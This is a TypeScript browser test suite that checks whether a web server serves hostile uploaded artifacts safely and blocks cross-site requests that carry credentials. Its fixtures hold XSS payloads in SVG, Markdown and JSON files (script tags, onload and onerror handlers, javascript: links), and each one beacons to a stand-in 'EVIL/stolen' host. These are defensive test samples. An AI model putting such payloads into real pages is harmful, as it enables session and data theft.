import { mkdir, readFile, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { loadConfig } from "../../../src/config.ts";
import { openTokens } from "../../../src/jobs/index.ts";
import { createArtifactLinks } from "../../../src/server/artifact-links.ts";
import { type RunningServer, serve } from "../../../src/server/index.ts";
import { temporaryOut } from "../../support/runs.ts";
import { accessibilityFaults, openTestBrowser, openTestPage } from "../../support/test-browser.ts";

let browser: Browser;
let page: Page;
let server: RunningServer;
let elsewhere: Server;
let evil: string;
let token: string;
let home: string;
let linkTo: (name: string) => string;
/** What a script of ours or theirs would leave: a dialog, or a request to the other site. */
const traces: string[] = [];

const script = "alert(1);new Image().src='EVIL/stolen'";
const files: Readonly<Record<string, string>> = {
  "charts/x.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${script}"/></foreignObject></svg>`,
  "assets/x.svg": `<svg xmlns="http://www.w3.org/2000/svg"><image href="EVIL/stolen"/><a href="javascript:${script}"><text y="20">x</text></a></svg>`,
  "report.md": `<script>${script}</script><img src=x onerror="${script}">`,
  "report.json": `{"title":"<script>${script}</script>"}`,
};

beforeAll(async () => {
  const out = await temporaryOut();
  const config = loadConfig({ cwd: out, out, env: {} });
  elsewhere = createServer((request, response) => {
    if (request.url !== "/page") traces.push(`request ${request.url}`);
    response.setHeader("content-type", "text/html").end("<title>Elsewhere</title>");
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  for (const [name, text] of Object.entries(files)) {
    const path = join(out, "run", name);
    await mkdir(join(path, ".."), { recursive: true });
    await writeFile(path, text.replaceAll("EVIL", evil));
  }
  home = config.home;
  const tokens = openTokens(home);
  token = tokens.add({ name: "ana", tenant: "ana", scopes: ["read", "run"], created: new Date().toISOString() }).token;
  tokens.close();
  const limits = { libraries: {}, offline: true, search: [], models: undefined };
  server = await serve({
    config,
    limits,
    host: "127.0.0.1",
    port: 0,
    maxRunning: 1,
    workers: 1,
    onError: (error) => traces.push(String(error)),
  });
  const links = await createArtifactLinks(config.home, () => new Date());
  linkTo = (name) => `${server.url}${links.linkTo("run", name)}`;
  browser = await openTestBrowser();
  page = await openTestPage(browser);
  page.on("dialog", (dialog) => {
    traces.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
});
afterAll(async () => {
  await browser.close();
  await server.close();
  elsewhere.closeAllConnections();
  await new Promise((resolve) => elsewhere.close(resolve));
});

test.each(Object.keys(files))("%s made by somebody hostile runs nothing and loads nothing", async (name) => {
  await page.goto(linkTo(name), { waitUntil: "load" });
  expect(traces.splice(0)).toEqual([]);
});

describe("a person", () => {
  test("signs in with a token, on a page that everybody can use", async () => {
    await page.goto(`${server.url}/signin`);
    expect(await accessibilityFaults(page)).toEqual([]);
    await page.getByLabel("Your token").fill("exh_wrong");
    await page.getByRole("button", { name: "Sign in" }).click();
    expect(await page.getByRole("alert").textContent()).toContain("not valid");
    await page.getByLabel("Your token").fill(token);
    await Promise.all([page.waitForURL(`${server.url}/`), page.getByRole("button", { name: "Sign in" }).click()]);
    expect((await page.goto(`${server.url}/ok`))?.status()).toBe(200);
    await page.goto(`${server.url}/signin`);
    expect(await page.evaluate(() => document.cookie)).toBe("");
  });

  test("who is signed in gives nothing to another site", async () => {
    await page.goto(`${evil}/page`);
    const seen = await page.evaluate(async (url) => {
      const tried = async (init: RequestInit) => {
        try {
          return (await fetch(`${url}/threads`, { credentials: "include", ...init })).status;
        } catch {
          return "refused";
        }
      };
      const text = { "content-type": "text/plain" };
      return [
        await tried({ method: "GET" }),
        await tried({ method: "POST", body: "{}", headers: text }),
        // Sent without asking: the server must refuse it by itself.
        await tried({ method: "POST", body: "{}", headers: text, mode: "no-cors" }),
        await tried({ method: "DELETE" }),
      ];
    }, server.url);
    expect(seen).toEqual(["refused", "refused", "refused", "refused"]);
    const runs = await page.goto(`${server.url}/api/runs`);
    expect(await runs?.json()).toEqual([]);
    const audit = await readFile(join(home, "audit.jsonl"), "utf8");
    const denied = audit.split("\n").filter((line) => line.includes('"status":403'));
    expect(denied.length).toBeGreaterThanOrEqual(3);
  });
});
